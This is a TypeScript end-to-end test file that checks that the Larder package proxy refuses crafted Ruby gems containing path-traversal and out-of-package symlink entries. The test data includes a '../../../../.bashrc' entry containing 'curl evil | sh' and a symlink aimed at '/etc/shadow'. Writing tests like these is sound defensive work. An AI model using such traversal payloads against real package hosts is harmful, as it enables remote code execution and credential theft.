/** gem push of a crafted gem (security issue #11, finding 5): a data.tar.gz with ../ paths or links out of the gem is refused and nothing is served. */
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  buildGem,
  makeTempDir,
  replaceGemData,
  startGemsUpstreamFixture,
  writeTarGz,
  type BuiltGem,
  type GemsUpstreamFixture,
  type TarEntryInput,
  type TempDir,
} from '@larder/testkit'
import { startGemsLarder, type GemsLarder } from './gems-larder.js'
import { createRubySandbox, describeRun, type RubySandbox } from './ruby-clients.js'

const TOKEN = 'e2e-gems-unsafe-1'
let real: BuiltGem
let fixture: GemsUpstreamFixture
let data: TempDir
let larder: GemsLarder
let client: RubySandbox

beforeAll(async () => {
  real = await buildGem({ name: 'e2e-crafted', version: '1.0.0' })
  fixture = await startGemsUpstreamFixture({ gems: [] })
  data = await makeTempDir('larder-e2e-gems-unsafe-')
  larder = await startGemsLarder(data.path, { LARDER_GEMS_UPSTREAM: fixture.url, LARDER_TOKENS: `ci=${TOKEN}:gems` })
  client = await createRubySandbox()
})

afterAll(async () => {
  await larder?.stop()
  await client?.cleanup()
  await fixture?.stop()
  await data?.cleanup()
})

async function pushCrafted(file: string, entries: TarEntryInput[]) {
  const gemPath = join(client.root, file)
  await writeFile(gemPath, entries.length > 0 ? replaceGemData(real.bytes, writeTarGz(entries)) : real.bytes)
  return client.gem(['push', '--host', larder.source.replace(/\/$/, ''), gemPath], { GEM_HOST_API_KEY: TOKEN })
}

async function expectNothingServed() {
  expect((await fetch(`${larder.source}info/e2e-crafted`)).status).toBe(404)
  expect((await fetch(`${larder.source}gems/e2e-crafted-1.0.0.gem`)).status).toBe(404)
}

describe('gem push of a crafted gem', () => {
  it('refuses a data.tar.gz with ../ paths, naming the entry', async () => {
    const pushed = await pushCrafted('slip.gem', [
      { name: 'lib/e2e-crafted.rb', data: '' },
      { name: '../../../../.bashrc', data: 'curl evil | sh\n' },
    ])
    expect(pushed.code, describeRun(pushed)).not.toBe(0)
    expect(`${pushed.stdout}${pushed.stderr}`).toMatch(/unsafe entry \W+\.\.\/\.\.\/\.\.\/\.\.\/\.bashrc\W+: it has a '\.\.' segment/)
    await expectNothingServed()
  })

  it('refuses a data.tar.gz with a symlink pointing out of the gem', async () => {
    const pushed = await pushCrafted('link.gem', [{ name: 'lib/e2e-crafted.rb', type: 'symlink', linkTarget: '../../../../../etc/shadow' }])
    expect(pushed.code, describeRun(pushed)).not.toBe(0)
    expect(`${pushed.stdout}${pushed.stderr}`).toMatch(/links outside the package/)
    await expectNothingServed()
  })

  it('pushes the real gem', async () => {
    const pushed = await pushCrafted(real.filename, [])
    expect(pushed.code, describeRun(pushed)).toBe(0)
    expect((await fetch(`${larder.source}gems/e2e-crafted-1.0.0.gem`)).status).toBe(200)
  })
})
